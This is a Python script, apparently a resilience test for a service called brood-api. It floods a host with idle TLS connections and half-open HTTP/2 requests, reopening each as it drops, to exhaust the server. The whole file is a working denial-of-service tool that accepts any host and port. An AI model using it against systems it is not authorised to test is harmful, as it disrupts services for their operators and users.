#!/usr/bin/env python3
"""flood.py HOST PORT IDLE STREAMS SECONDS [IDLE_FROM STREAM_FROM]: what an unauthenticated
client throws at brood-api (from one address, or the idle and the streams from two).

IDLE TLS connections that finish their handshake (ALPN h2) and say nothing more, and STREAMS
connections that each hold an HTTP/2 request open (HEADERS without END_STREAM, a byte of body
now and then), every one reopened as soon as the server closes it, for SECONDS. It prints what
it managed to hold at the end. The attacker needs no key and no token; nothing is verified.
"""
import socket
import ssl
import struct
import sys
import time


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_literal(index, value):
    # A literal header field without indexing, its name from the static table (RFC 7541 §6.2.2).
    value = value.encode()
    return bytes([index]) + bytes([len(value)]) + value


def half_open_request():
    headers = bytes([0x83, 0x87])  # :method POST, :scheme https (static table 3 and 7)
    headers += hpack_literal(0x04, "/register") + hpack_literal(0x01, "flood")
    return (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 0x4, 1, headers) +  # END_HEADERS only
            frame(0, 0, 1, b"{"))


def connect(host, port, context, source):
    s = socket.create_connection((host, port), timeout=5, source_address=(source, 0) if source else None)
    t = context.wrap_socket(s, server_hostname=host)
    t.setblocking(False)
    return t


def main():
    host, port, idle, streams, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    sources = {"idle": sys.argv[6] if len(sys.argv) > 7 else None, "stream": sys.argv[7] if len(sys.argv) > 7 else None}
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    held = {}  # kind -> list of sockets
    opened = {"idle": 0, "stream": 0}
    refused = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for kind, want in (("idle", idle), ("stream", streams)):
            alive = []
            for t in held.get(kind, []):
                try:
                    if t.recv(65536) == b"":
                        t.close()
                        continue
                except ssl.SSLWantReadError:
                    pass
                except (OSError, ssl.SSLError):
                    t.close()
                    continue
                alive.append(t)
            while len(alive) < want and time.monotonic() < end:
                try:
                    t = connect(host, port, context, sources[kind])
                except (OSError, ssl.SSLError):
                    refused += 1
                    break
                if kind == "stream":
                    try:
                        t.setblocking(True)
                        t.sendall(half_open_request())
                        t.setblocking(False)
                    except (OSError, ssl.SSLError):
                        refused += 1
                        t.close()
                        continue
                opened[kind] += 1
                alive.append(t)
            held[kind] = alive
        time.sleep(0.2)
    print("held %d idle and %d half-open; opened %d and %d; %d refused or cut"
          % (len(held.get("idle", [])), len(held.get("stream", [])), opened["idle"], opened["stream"], refused))


if __name__ == "__main__":
    main()
